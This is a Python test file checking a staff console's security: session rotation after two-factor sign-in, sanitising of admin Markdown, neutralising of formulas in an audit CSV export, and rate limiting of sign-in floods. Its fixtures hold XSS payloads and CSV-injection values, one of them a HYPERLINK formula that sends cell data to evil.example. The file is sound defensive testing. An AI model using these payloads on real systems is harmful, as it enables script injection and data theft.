"""Console hardening over real HTTP (issue 19, item 9): the session token changes when sign-in
completes, admin-written training Markdown cannot inject HTML, and the audit CSV export cannot
carry spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator

import pyotp
import pytest
from argon2 import PasswordHasher

from haven.core import clock
from haven.core.db import Database
from haven.core.ledger import audit
from haven.staff import service as svc
from tests.conftest import LiveServer
from tests.review.console_client import ConsoleClient
from tests.review.fixtures import PASSWORD, make_staff


@pytest.fixture(autouse=True)
def _fast_argon2() -> Iterator[None]:
    previous = svc._hasher
    svc._hasher = PasswordHasher(time_cost=1, memory_cost=8192, parallelism=1)
    yield
    svc._hasher = previous


def test_session_token_is_rotated_when_sign_in_completes(server: LiveServer, db: Database) -> None:
    _, secret = make_staff(db, "rot@example.org", ["reviewer"])
    c = ConsoleClient(server.url)
    c.get("/console/login")
    r = c.post("/console/login", {"email": "rot@example.org", "password": PASSWORD})
    assert r.status_code == 303
    before = c.jar["haven_session"]
    r = c.follow(r)
    r = c.post("/console/mfa", {"code": pyotp.TOTP(secret).at(clock.now())})
    assert r.status_code == 303
    after = c.jar["haven_session"]
    assert after != before, "the pre-2FA session token still names the signed-in session"
    assert c.get("/console/account").status_code == 200
    # Whoever held the token from before the second factor has nothing.
    other = ConsoleClient(server.url)
    other.jar["haven_session"] = before
    r = other.get("/console/account")
    assert r.status_code == 303 and r.headers["location"].startswith("/console/login")


def test_enrolment_rotates_the_session_token(server: LiveServer, db: Database) -> None:
    make_staff(db, "enr@example.org", ["reviewer"], enrol=False)
    c = ConsoleClient(server.url)
    c.get("/console/login")
    r = c.follow(c.post("/console/login", {"email": "enr@example.org", "password": PASSWORD}))
    before = c.jar["haven_session"]
    secret = re.search(r'id="totp-secret">([A-Z2-7]+)<', r.text).group(1)  # type: ignore[union-attr]
    r = c.post("/console/enrol", {"code": pyotp.TOTP(secret).now()})
    assert r.status_code == 200 and "recovery codes" in r.text.lower()
    assert c.jar["haven_session"] != before
    assert c.get("/console/account").status_code == 200
    r = c.post("/console/logout")  # the page's CSRF token is the rotated session's
    assert r.status_code == 303


HOSTILE = """# Hello

<script>alert("x")</script>

<div onmouseover="alert(1)">hover</div> and <img src=x onerror="alert(2)"> inline.

[click](javascript:alert(3)) [fine](https://example.org/help) ![pic](  JaVa\tScRiPt:alert(4))
"""


def test_training_markdown_renders_no_raw_html(server: LiveServer, db: Database) -> None:
    _, secret = make_staff(db, "adm@example.org", ["admin"])
    c = ConsoleClient(server.url)
    c.sign_in("adm@example.org", PASSWORD, secret)
    from haven.staff import training

    slug = next(iter(training.MODULES))
    c.get(f"/console/admin/training/{slug}")
    r = c.post(f"/console/admin/training/{slug}", {"title": "Edited", "body": HOSTILE})
    assert r.status_code == 303, r.text
    html = c.get(f"/console/training/{slug}").text
    assert "<h1>Hello</h1>" in html  # Markdown still renders
    for bad in ("<script>alert", "<div onmouseover", "<img src=x", 'href="javascript:'):
        assert bad not in html, bad
    assert not re.search(r"<[^>]*\s(onerror|onmouseover)=", html)
    assert 'src="javascript' not in html.lower().replace("\t", "")
    assert "&lt;script&gt;" in html  # shown as text
    assert 'href="https://example.org/help"' in html


def test_audit_csv_neutralises_formulas(server: LiveServer, db: Database) -> None:
    _, secret = make_staff(db, "csv@example.org", ["admin"])
    nasty = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    with db.session() as s:
        for i, v in enumerate(nasty):
            audit(s, actor="service:test", action="content.view", object_type="content", object_id=v, purpose=v)
            del i
    c = ConsoleClient(server.url)
    c.sign_in("csv@example.org", PASSWORD, secret)
    r = c.get("/console/admin/audit?format=csv&action=content.view")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert len(rows) == len(nasty)
    for row in rows:
        for col in ("object_id", "purpose"):
            assert row[col][0] not in "=+-@\t\r", row[col]
            assert row[col][0] == "'" and row[col][1:] in nasty


def test_sign_in_flood_from_one_address_gets_429_with_retry_after(server: LiveServer, db: Database) -> None:
    """Item 3 over HTTP: past 30 attempts a minute from one address the login form answers 429
    with Retry-After and a readable message (no hash, no 500), for unknown e-mails too."""
    c = ConsoleClient(server.url)
    c.get("/console/login")
    codes = [
        c.post("/console/login", {"email": f"nobody{i}@example.org", "password": "wrong password here"}).status_code
        for i in range(30)
    ]
    assert codes == [401] * 30
    r = c.post("/console/login", {"email": "nobody@example.org", "password": "wrong password here"})
    assert r.status_code == 429 and int(r.headers["retry-after"]) >= 1
    assert "too many sign-in attempts" in r.text
